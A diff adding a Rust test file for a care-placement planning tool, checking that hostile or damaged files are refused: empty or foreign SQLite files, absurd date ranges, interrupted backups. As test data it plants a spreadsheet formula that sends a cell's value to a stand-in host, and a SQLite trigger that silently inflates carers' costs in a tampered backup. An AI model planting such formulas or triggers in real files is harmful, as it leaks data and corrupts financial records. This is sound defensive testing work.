@@ -1,0 +1,316 @@
+//! Hostile files and bad luck (issue 14), each fault with its test: a
+//! command piped into a reader that stops (`| head -1`) exits quietly and
+//! still does its work; an empty file or another program's SQLite file is
+//! refused and left as it was; a name that is a spreadsheet formula is
+//! exported as text; an absurd reference period is refused, not a panic.
+
+mod common;
+
+use common::files::{write_csv, SSDA903_EPISODES, SSDA903_HEADER};
+use placement_planner::store::Store;
+use std::process::{Command, Stdio};
+
+/// The command's failure message (it must fail).
+fn fails(cmd: &mut assert_cmd::Command) -> String {
+    let out = cmd.output().unwrap();
+    assert!(!out.status.success(), "it succeeded");
+    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+    assert!(!stderr.contains("panicked"), "{stderr}");
+    stderr
+}
+
+/// Runs the command with its standard output a pipe nobody reads: the
+/// reading end is closed before the command writes anything. Returns
+/// whether it succeeded and what it wrote to standard error.
+fn with_stdout_closed(args: &[&str]) -> (bool, String) {
+    let mut child = Command::new(assert_cmd::cargo::cargo_bin("placement-planner"))
+        .args(args)
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    drop(child.stdout.take());
+    let out = child.wait_with_output().unwrap();
+    (
+        out.status.success(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+#[test]
+fn an_import_piped_into_a_closed_reader_is_still_done() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("c.sqlite");
+    let db_arg = db.to_str().unwrap();
+    common::succeeds(common::planner().args(["new", "--db", db_arg]));
+    let h = write_csv(
+        dir.path(),
+        "header.csv",
+        SSDA903_HEADER,
+        &["P1,1,01/05/2012,WBRI,,,", "P2,2,01/05/2010,WBRI,,,"],
+    );
+    let e = write_csv(
+        dir.path(),
+        "episodes_2025-26.csv",
+        SSDA903_EPISODES,
+        &[
+            "P1,10/04/2025,S,C2,N1,U4,PR4,,,,,,",
+            "P2,01/05/2025,S,C2,N1,U6,PR1,,,,,,",
+        ],
+    );
+    let (ok, stderr) = with_stdout_closed(&[
+        "import",
+        "ssda903",
+        h.to_str().unwrap(),
+        e.to_str().unwrap(),
+        "--db",
+        db_arg,
+    ]);
+    assert!(ok, "{stderr}");
+    assert!(!stderr.contains("panicked"), "{stderr}");
+    assert_eq!(stderr, "");
+    let store = Store::open(&db).unwrap();
+    assert_eq!(store.children().unwrap().len(), 2);
+    assert_eq!(store.placements().unwrap().len(), 2);
+}
+
+#[test]
+fn a_long_listing_into_a_closed_reader_exits_quietly() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = common::sample_db(dir.path());
+    for args in [
+        vec!["audit", "--db", db.to_str().unwrap()],
+        vec!["report", "sufficiency", "--db", db.to_str().unwrap()],
+        vec!["rates", "--db", db.to_str().unwrap()],
+    ] {
+        let (ok, stderr) = with_stdout_closed(&args);
+        assert!(ok, "{args:?}: {stderr}");
+        assert_eq!(stderr, "", "{args:?}");
+    }
+}
+
+/// Fault 1: a zero-byte file (a sync cut short) is not a new database.
+#[test]
+fn an_empty_file_is_refused_and_stays_empty() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("zero.db");
+    std::fs::write(&db, b"").unwrap();
+    let err = fails(common::planner().args(["settings", "--db"]).arg(&db));
+    assert!(
+        err.contains("the file is empty (0 bytes), so it is not a placement-planner database"),
+        "{err}"
+    );
+    assert_eq!(std::fs::metadata(&db).unwrap().len(), 0);
+    // Nor does an import write into it.
+    let err = fails(
+        common::planner()
+            .args(["rates", "set", "ifa_fostering", "2025", "900", "--db"])
+            .arg(&db),
+    );
+    assert!(err.contains("0 bytes"), "{err}");
+    assert_eq!(std::fs::metadata(&db).unwrap().len(), 0);
+}
+
+/// Fault 2: another application's SQLite file is never migrated.
+#[test]
+fn another_programs_sqlite_file_is_refused_and_left_alone() {
+    let dir = tempfile::tempdir().unwrap();
+    for (name, sql) in [
+        (
+            "notes.sqlite",
+            "CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT);",
+        ),
+        (
+            "settings.sqlite",
+            "CREATE TABLE settings (key TEXT PRIMARY KEY, value TEXT); \
+             INSERT INTO settings VALUES ('theme', 'dark');",
+        ),
+    ] {
+        let path = dir.path().join(name);
+        {
+            let conn = rusqlite::Connection::open(&path).unwrap();
+            conn.execute_batch(sql).unwrap();
+        }
+        let before = std::fs::read(&path).unwrap();
+        let err = fails(common::planner().args(["settings", "--db"]).arg(&path));
+        assert!(
+            err.contains("not a placement-planner database: it is another program's SQLite file"),
+            "{err}"
+        );
+        assert!(err.lines().count() <= 2, "a short message, not SQL: {err}");
+        assert_eq!(std::fs::read(&path).unwrap(), before, "{name} changed");
+        assert!(!dir.path().join(format!("{name}-wal")).exists());
+    }
+}
+
+/// Fault 6: a name that is a spreadsheet formula is exported as text.
+#[test]
+fn names_that_are_formulas_are_exported_as_text() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("c.sqlite");
+    let db_arg = db.to_str().unwrap();
+    common::succeeds(common::planner().args(["new", "--db", db_arg]));
+    let formula = "=HYPERLINK(\"http://example.invalid/?\"&B2,\"Click\")";
+    {
+        let mut s = Store::open(&db).unwrap();
+        let mut c = common::records::child_in_care("F1", jiff::civil::date(2025, 4, 1));
+        c.name = formula.into();
+        s.insert_child(&c).unwrap();
+        s.insert_placement(&common::records::placement_elsewhere(
+            "F1",
+            jiff::civil::date(2025, 4, 1),
+            placement_planner::model::PlaceCode::U6,
+            Some(placement_planner::model::ProviderCode::PR1),
+        ))
+        .unwrap();
+    }
+    let out = dir.path().join("summary.csv");
+    common::succeeds(
+        common::planner()
+            .args([
+                "export",
+                "summary",
+                "--with-names",
+                "--as-at",
+                "01/06/2025",
+                "--db",
+                db_arg,
+                "--out",
+            ])
+            .arg(&out),
+    );
+    let written = dir.path().join("summary-WITH-NAMES.csv");
+    let mut rdr = csv::Reader::from_path(&written).unwrap();
+    let head = rdr.headers().unwrap().clone();
+    let name_col = head.iter().position(|h| h == "name").unwrap();
+    let rec = rdr.records().next().unwrap().unwrap();
+    assert_eq!(&rec[name_col], format!("'{formula}"));
+}
+
+/// Fault 7: an absurd reference period is refused with the range, not a
+/// panic deep in the date library.
+#[test]
+fn an_absurd_reference_period_is_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = common::sample_db(dir.path());
+    let levers = dir.path().join("none.toml");
+    std::fs::write(&levers, "").unwrap();
+    let err = fails(
+        common::planner()
+            .args(["scenario", "run", "--reference-months", "300000", "--db"])
+            .arg(&db)
+            .arg("--scenario")
+            .arg(&levers),
+    );
+    assert!(err.contains("300000 is not in 1..=120"), "{err}");
+    let err = fails(
+        common::planner()
+            .args([
+                "scenario",
+                "backtest",
+                "--start",
+                "01/04/2024",
+                "--months",
+                "12",
+                "--reference-months",
+                "4294967295",
+                "--db",
+            ])
+            .arg(&db),
+    );
+    assert!(err.contains("is not in 1..=120"), "{err}");
+    // The library's month arithmetic gives the start back rather than
+    // panicking when asked for a date jiff cannot hold.
+    let start = jiff::civil::date(2025, 4, 1);
+    assert_eq!(
+        placement_planner::scenario::baseline::add_months(start, -300_000),
+        start
+    );
+    assert_eq!(
+        placement_planner::scenario::baseline::add_months(start, -1),
+        jiff::civil::date(2025, 3, 1)
+    );
+}
+
+/// Fault 3: a backup holding a trigger placement-planner never wrote is
+/// neither restored nor opened.
+#[test]
+fn a_tampered_backup_is_refused_and_the_database_kept() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = common::sample_db(dir.path());
+    common::succeeds(common::planner().args(["backup", "--db"]).arg(&db));
+    let backup = placement_planner::store::list_backups(&db).unwrap()[0]
+        .path
+        .clone();
+    {
+        let conn = rusqlite::Connection::open(&backup).unwrap();
+        conn.execute_batch(
+            "CREATE TRIGGER zz AFTER INSERT ON carers BEGIN \
+             UPDATE carers SET weekly_cost_pence = weekly_cost_pence * 10; END;",
+        )
+        .unwrap();
+    }
+    let carers_before = Store::open(&db).unwrap().carers().unwrap();
+    let err = fails(
+        common::planner()
+            .args(["restore", "--yes", "--db"])
+            .arg(&db)
+            .arg(&backup),
+    );
+    assert!(
+        err.contains("it holds what placement-planner never wrote (trigger zz)"),
+        "{err}"
+    );
+    assert_eq!(Store::open(&db).unwrap().carers().unwrap(), carers_before);
+    // Opening the tampered file itself is refused the same way.
+    let err = fails(common::planner().args(["settings", "--db"]).arg(&backup));
+    assert!(err.contains("trigger zz"), "{err}");
+    // A changed table is caught as well as an added object.
+    let other = dir.path().join("altered.sqlite");
+    std::fs::copy(&db, &other).unwrap();
+    {
+        let conn = rusqlite::Connection::open(&other).unwrap();
+        conn.execute_batch("ALTER TABLE carers ADD COLUMN secret TEXT;")
+            .unwrap();
+    }
+    let err = fails(common::planner().args(["settings", "--db"]).arg(&other));
+    assert!(err.contains("table carers (changed)"), "{err}");
+}
+
+/// Fault 4: what a backup cut short leaves (an empty reserved name, an old
+/// `.partial-PID` copy) is never listed or counted, and is cleared.
+#[test]
+fn a_backup_cut_short_leaves_nothing_that_counts() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = common::sample_db(dir.path());
+    common::succeeds(common::planner().args(["backup", "--db"]).arg(&db));
+    let folder = placement_planner::store::backups_dir(&db);
+    let real = placement_planner::store::list_backups(&db).unwrap();
+    assert_eq!(real.len(), 1);
+    // As a power cut during a backup leaves them: the reserved name, empty,
+    // and the copy being written, an hour old.
+    let reserved = folder.join("county-20250101-000000.sqlite");
+    std::fs::write(&reserved, b"").unwrap();
+    let partial = folder.join("county-20250101-000000.sqlite.partial-424242");
+    std::fs::write(&partial, vec![0u8; 4096]).unwrap();
+    let an_hour_ago = std::time::SystemTime::now() - std::time::Duration::from_secs(3600);
+    std::fs::File::options()
+        .write(true)
+        .open(&partial)
+        .unwrap()
+        .set_modified(an_hour_ago)
+        .unwrap();
+    let listed = common::succeeds(common::planner().args(["backups", "--db"]).arg(&db));
+    assert!(!listed.contains("20250101"), "{listed}");
+    // Keeping two: the real one stays beside the new one.
+    common::succeeds(
+        common::planner()
+            .args(["backup", "--keep", "2", "--db"])
+            .arg(&db),
+    );
+    let after = placement_planner::store::list_backups(&db).unwrap();
+    assert_eq!(after.len(), 2);
+    assert!(after.iter().any(|b| b.path == real[0].path));
+    assert!(!reserved.exists());
+    assert!(!partial.exists());
+}
